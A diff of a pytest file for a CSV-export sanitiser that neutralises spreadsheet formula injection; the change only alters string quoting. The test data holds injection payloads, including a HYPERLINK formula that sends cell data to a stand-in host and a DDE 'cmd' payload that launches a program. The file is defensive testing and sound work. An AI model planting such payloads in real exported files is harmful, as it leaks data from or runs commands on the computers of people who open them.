@@ -11,7 +11,7 @@ import pytest
 
 from visframe.utils.csv_safe import neutralise_cell, to_csv_safe, unneutralise, visible_text
 
-PAYLOADS = ["=HYPERLINK(\"http://x/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
 
 
 def read_back(text: str) -> list[list[str]]:
@@ -28,7 +28,7 @@ def test_to_csv_safe_writes_text_cells_as_text_and_leaves_numbers_and_safe_text(
     frame = pd.DataFrame(
         {
             "caption": pd.array(PAYLOADS, dtype="string"),
-            "account": ["=cmd|' /C calc'!A0", "ok", None, "a,b", "say \"hi\"", "x"],
+            "account": ["=cmd|' /C calc'!A0", "ok", None, "a,b", 'say "hi"', "x"],
             "likes": [-5, 3, 0, 1, 2, 4],
             "score": [-0.5, np.nan, 1.0, 2.0, 3.0, 4.0],
             "category": pd.Categorical(["-a", "b", "-a", "b", "b", "b"]),
